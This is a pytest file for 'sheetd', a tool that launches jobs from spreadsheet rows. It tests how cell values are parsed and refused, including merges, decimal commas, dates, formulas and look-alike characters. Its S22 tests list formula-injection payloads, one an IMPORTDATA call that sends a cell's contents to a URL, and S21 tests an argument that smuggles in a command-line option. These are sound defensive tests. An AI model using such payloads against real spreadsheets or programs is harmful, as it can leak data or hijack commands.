"""What people type into the cells of a row, and what the sheet makes of it (S15 to S24).

Values are read typed. Nothing is guessed: a row says in its own `message` what to type instead, starts nothing, and
stops nobody else.
"""

from __future__ import annotations

import pytest

from sheetd.core.model import Phase
from sheetd.core.observation import AttemptSeen, Exit, Seen
from sheetd.core.template import Param, ParamType, Template
from sheetd.core.views import why_unclear
from sheetd.core.world import Limits
from tests.core.story import TRAIN
from tests.faults.conftest import OpenLab
from tests.faults.laboratory import Lab

NOTED = Template(
    name="noted",
    command=("python", "note.py", "{seed}", "--lr={lr}"),
    params={
        "seed": Param(name="seed", max_length=4000),
        "lr": Param(name="lr", type=ParamType.BOOLEAN, default=False),
    },
)


def refused(lab: Lab, **typed: str) -> str:
    """What a row that was typed so says, when it was not started."""
    lab.person.type("bad", **{"template": "train", "lr": "0.1", **typed})
    lab.person.type("good", template="train", lr="0.5")
    lab.wait()
    bad, good = lab.person.see("bad"), lab.person.see("good")
    assert (bad["status"], bad["host"], good["status"]) == ("invalid", "", "running")
    assert lab.attempts == [f"{good['id']}.1"]
    return bad["message"]


def accepted(lab: Lab, **typed: str) -> dict[str, object]:
    """The parameters that a row typed so runs with."""
    lab.person.type("row", **{"template": "train", "lr": "0.1", **typed})
    lab.wait()
    assert lab.person.status("row") == ["running"]
    return dict(lab.story.experiment_by(lab.ids("row")[0]).spec.params)


# --- merged cells ------------------------------------------------------------------------------------------------


def test_S15_a_merge_in_the_header_stops_all_writing_until_it_is_undone(lab: Lab):
    """A header that a merge swallowed is a missing one: nothing is written, and `sheetd status` names it."""
    (first,) = lab.running("first")
    place = lab.person.column("status")
    lab.person.merge((0, 0), (place, place + 1))
    before = lab.person.grid()
    lab.story.exits(f"{first}.1", rc=1)
    lab.wait(30)
    assert lab.person.grid() == before
    assert "lacks message" in why_unclear(lab.story.world)
    lab.person.tab.unmerge_cells("A1:Z1")
    lab.person.enter(0, place + 1, "message")
    lab.wait()
    assert lab.person.status("first") == ["failed"]


def test_S15_merged_ids_cost_no_job_and_start_none(lab: Lab):
    """The id that a merge swallowed is like one that was cleared: its row is known by what it says."""
    ids = lab.running("first", "second")
    place = lab.person.column("id")
    lab.person.merge((1, 2), (place, place))
    lab.wait(60, step_s=5)
    assert [lab.phase(id_) for id_ in ids] == [Phase.RUNNING, Phase.RUNNING]
    assert (lab.stops, len(lab.attempts)) == ([], 2)
    assert lab.person.status("first", "second") == ["running", "running"]


def test_S15_a_value_that_a_merge_swallowed_is_missed_and_not_made_up(lab: Lab):
    """Only the upper left cell of a merge holds a value: the other rows say that theirs is empty."""
    lab.person.type_all({name: {"template": "train", "lr": "0.1"} for name in ("first", "second")})
    place = lab.person.column("lr")
    lab.person.merge((1, 2), (place, place))
    lab.person.remember()
    lab.wait()
    assert lab.person.status("first", "second") == ["running", "invalid"]
    assert lab.person.see("second")["message"] == "lr is empty: type a number from 0 to 10"


@pytest.mark.xfail(strict=True, reason="merges are not read, so the row takes the default of the parameter")
def test_S15_a_row_does_not_run_on_a_default_where_a_merge_shows_a_value(lab: Lab):
    """To the person both rows show 7; the one whose cell is inside the merge must say so, and not run with 0."""
    lab.person.type_all({name: {"template": "train", "lr": "0.1", "seed": "7"} for name in ("first", "second")})
    place = lab.person.column("seed")
    lab.person.merge((1, 2), (place, place))
    lab.person.remember()
    lab.wait()
    assert lab.person.status("first", "second") == ["running", "invalid"]


# --- size --------------------------------------------------------------------------------------------------------


def test_S16_a_huge_cell_is_refused_by_its_length_and_costs_nobody_anything(open_lab: OpenLab):
    """A text has a bound that the template sets; the row says how long it is and how long it may be."""
    lab = open_lab(templates=[NOTED])
    lab.person.type("huge", template="noted", seed="x" * 50_000)
    lab.person.type("good", template="noted", seed="x" * 4000)
    lab.wait()
    assert lab.person.status("huge", "good") == ["invalid", "running"]
    assert lab.person.see("huge")["message"] == "seed has 50000 characters, more than 4000: shorten it"


def test_S16_what_a_job_says_is_cut_to_the_size_of_a_message(lab: Lab):
    """However much a host has to tell, a cell of ours stays short enough to be read."""
    (first,) = lab.running("first")
    lab.story.exits(f"{first}.1", rc=1, last_lines=("E" * 100_000,) * 20)
    lab.wait()
    assert lab.person.see("first")["message"].startswith("exit code 1; last line: EEE")
    assert max(len(text) for text in lab.person.see("first").values()) <= 500


def test_S16_hundreds_of_columns_of_the_persons_own_do_no_harm(lab: Lab):
    """What is no column of ours is not understood, not fingerprinted and not written."""
    lab.person.tab.add_cols(300)
    (first,) = lab.running("first")
    lab.person.tab.update([[f"x{n}" for n in range(300)], ["y" * 100] * 300], "Z1")
    lab.wait()
    assert (lab.ids("first"), lab.person.status("first")) == ([first], ["running"])
    assert len(lab.attempts) == 1


# --- numbers and dates -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("typed", "instead"), [("0,1", "0.1"), ("0,001", "0.001"), ("-1,5", "-1.5")])
def test_S17_a_decimal_comma_is_never_a_thousand_times_as_much(lab: Lab, typed: str, instead: str):
    """Text that looks like a number with a comma is refused with the number to type; it is not converted."""
    assert refused(lab, lr=typed) == f'lr is the text "{typed}": type it with a point, {instead}'
    assert lab.person.see("bad")["lr"] == typed, "the cell is the person's"


@pytest.mark.parametrize(("typed", "value"), [("5.10", 5.1), ("1e-3", 0.001), ("0.30000000000000004", 0.1 + 0.2)])
def test_S17_a_number_is_the_double_in_the_cell_and_not_the_text_that_is_shown(lab: Lab, typed: str, value: float):
    """Every digit arrives, whatever the cell's format leaves of it."""
    assert accepted(lab, lr=typed)["lr"] == value


@pytest.mark.parametrize("typed", ["2026-01-02", "1/2/2026", "1:30", "$5", "5 %"])
def test_S18_a_date_a_duration_or_a_price_is_not_a_number_to_the_row(lab: Lab, typed: str):
    """Where the sheet keeps it as text, the row says what to type."""
    assert refused(lab, lr=typed) == f'lr is the text "{typed}": type a number from 0 to 10'


@pytest.mark.xfail(strict=True, reason="formats are not read, so a date is its serial number")
def test_S18_a_cell_that_shows_a_date_is_refused_for_a_number(lab: Lab):
    """Google keeps a date as a number (46024) with a format; what the person sees is no whole number."""
    lab.person.type("bad", template="train", lr="0.1", seed="46024")
    lab.person.show_as_date("bad", "seed")
    assert lab.person.see("bad")["seed"] == "2026-01-02"
    lab.wait()
    assert lab.person.status("bad") == ["invalid"]


# --- formulas ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("typed", ["=1/0", "=Z9", "=RAND()", "=lookup(A1)"])
def test_S19_a_formula_without_a_value_is_waited_for(lab: Lab, typed: str):
    """An error or an unfinished value starts nothing; as soon as there is a value, the row goes on by itself."""
    message = refused(lab, lr=typed)
    assert message.startswith("lr shows #")
    assert message.endswith(": type a value, or mend the formula")
    lab.person.type("bad", lr="=0.25")
    lab.wait()
    assert lab.person.status("bad") == ["running"]
    assert lab.story.experiment_by(lab.ids("bad")[0]).spec.params["lr"] == 0.25


def test_S19_a_value_that_changes_with_every_read_never_starts(lab: Lab):
    """Only what was the same in two reads, some seconds apart, is meant."""
    lab.person.type("row", template="train")
    for number in range(15):
        lab.person.type("row", lr=f"=0.{number + 10}")
        lab.wait(2)
    assert lab.attempts == []
    lab.wait()
    assert lab.story.experiment_by(lab.ids("row")[0]).spec.params["lr"] == 0.24


# --- characters --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("typed", [" train ", "TRAIN", "\u00a0train", "\uff54\uff52\uff41\uff49\uff4e"])
def test_S20_a_keyword_may_be_spelled_with_spaces_and_other_cases(lab: Lab, typed: str):
    """Spaces, no-break spaces, case and compatibility forms do not count in a keyword."""
    assert accepted(lab, template=typed) == {"lr": 0.1, "seed": 0}


def test_S20_spaces_around_an_id_do_not_make_it_another(lab: Lab):
    """Whoever edits a cell and leaves a space behind has changed nothing."""
    (first,) = lab.running("first")
    lab.person.type("first", id=f" {first} ")
    lab.wait(30)
    assert (lab.ids("first"), lab.stops, len(lab.attempts)) == ([first], [], 1)


@pytest.mark.parametrize("typed", ["0.1\u200b", "\ufeff0.1"])
def test_S20_an_invisible_character_is_no_part_of_a_number(lab: Lab, typed: str):
    """The value is refused, and nothing is started with what only looks like it."""
    assert refused(lab, lr=typed).startswith("lr is the text")


@pytest.mark.xfail(strict=True, reason="core/text.py takes invisible characters out of messages too")
def test_S20_the_message_names_the_character_that_nobody_sees(lab: Lab):
    """A row that says `"0.1" is no number` and no more leaves a person helpless: the code point has to be told."""
    assert "U+200B" in refused(lab, lr="0.1\u200b")


@pytest.mark.parametrize("typed", ["\uff10.1", "\u0661", "0\u2024" + "1", "\u22121", "\u20131"])
def test_S21_digits_and_dashes_of_other_alphabets_are_no_number(lab: Lab, typed: str):
    """Python would read some of them as one; which number a person meant is not guessed."""
    assert refused(lab, lr=typed) == f'lr is the text "{typed}": type a number from 0 to 10'


def test_S21_a_name_with_a_letter_of_another_alphabet_is_not_taken_for_ours(lab: Lab):
    """A Cyrillic letter in `train` is not folded: the row names the templates there are."""
    assert refused(lab, template="tr\u0430in").startswith('there is no template "tr\u0430in": type one of train')


def test_S21_a_look_alike_dash_is_no_option(open_lab: OpenLab):
    """`\u2013lr` from autocorrect is text like any other, one argument; a real dash where an option could be is refused."""
    lab = open_lab(templates=[NOTED])
    lab.person.type("en dash", template="noted", seed="\u2013lr=9")
    lab.person.type("hyphen", template="noted", seed="'--lr=9")
    lab.wait()
    (id_,) = lab.ids("en dash")
    assert lab.story.experiment_by(id_).spec.argv == ("python", "note.py", "\u2013lr=9", "--lr=false")
    assert lab.person.status("hyphen") == ["invalid"]
    assert lab.person.see("hyphen")["message"].startswith(
        "seed begins with - and the program would read it as an option"
    )


HOSTILE = ['=IMPORTDATA("http://127.0.0.1/?"&A1)', "+1+1", "-2", "@SUM(A1)", '=HYPERLINK("http://x","y")']


@pytest.mark.parametrize("said", HOSTILE)
def test_S22_text_of_a_job_never_becomes_a_formula(lab: Lab, said: str):
    """It is written as a typed string, and quoted where an export as CSV would make a formula of it."""
    (first,) = lab.running("first")
    lab.story.report(f"{first}.1", AttemptSeen(state=Seen.EXITED, exit=Exit(error=said)))
    lab.wait()
    message = lab.person.cell("first", "message")
    assert message["userEnteredValue"] == {"stringValue": f'"{said}"'}
    assert message["formattedValue"] == f'"{said}"'


@pytest.mark.parametrize("typed", HOSTILE)
def test_S22_text_of_a_person_is_passed_on_and_quoted_back_as_text(lab: Lab, typed: str):
    """A message that repeats what was typed holds no formula either."""
    refused(lab, lr=f"'{typed}")
    assert set(lab.person.cell("bad", "message")["userEnteredValue"]) == {"stringValue"}


@pytest.mark.parametrize(("typed", "value"), [("TRUE", True), ("false", False), ("'True ", True), ("", False)])
def test_S23_truth_is_read_typed(open_lab: OpenLab, typed: str, value: bool):
    """A checkbox, and the words TRUE and FALSE, are the only spellings; an empty cell is the default."""
    lab = open_lab(templates=[NOTED])
    assert accepted(lab, template="noted", seed="x", lr=typed) == {"seed": "x", "lr": value}


@pytest.mark.parametrize("typed", ["WAHR", "1", "0", "yes", "VRAI"])
def test_S23_other_words_for_truth_are_refused(open_lab: OpenLab, typed: str):
    """What a language or a spreadsheet takes for true is not guessed."""
    lab = open_lab(templates=[NOTED, TRAIN])
    assert refused(lab, template="noted", seed="x", lr=typed) == f'lr is "{typed}": type TRUE or FALSE'


def test_S23_zero_is_not_empty_and_true_is_not_one(lab: Lab):
    """0 is a value of its own, and a checkbox is no number."""
    assert refused(lab, lr="TRUE") == "lr is TRUE: type a number from 0 to 10"
    assert accepted(lab, lr="0", seed="0") == {"lr": 0.0, "seed": 0}
    lab.person.type("row", seed="")
    lab.wait()
    assert lab.person.see("row")["message"].startswith("edited after it was accepted")


# --- half-typed rows ---------------------------------------------------------------------------------------------


def test_S24_a_row_does_not_start_while_somebody_types_in_it(lab: Lab):
    """It starts when it has been left alone for some seconds, with what it says then."""
    lab.person.type("row", template="train")
    for text in ("0.1", "0.15", "0.2", "0.25", "0.3"):
        lab.wait(2)
        lab.person.type("row", lr=text)
    assert lab.attempts == []
    lab.wait()
    assert len(lab.attempts) == 1
    assert lab.story.experiment_by(lab.ids("row")[0]).spec.params["lr"] == 0.3


def test_S24_with_ready_explicit_nothing_starts_without_run(open_lab: OpenLab):
    """The catalogue wants `run` in every row. That is `ready = "explicit"`; by default a row that has settled is meant."""
    lab = open_lab(limits=Limits(explicit_only=True, dress_every_s=1e9))
    lab.person.type("row", template="train", lr="0.1")
    lab.wait(30, step_s=2)
    assert (lab.person.status("row"), lab.attempts) == (["draft"], [])
    assert lab.person.see("row")["message"] == "choose run in action to start it"
    lab.person.type("row", action="run")
    lab.wait()
    assert lab.person.status("row") == ["running"]
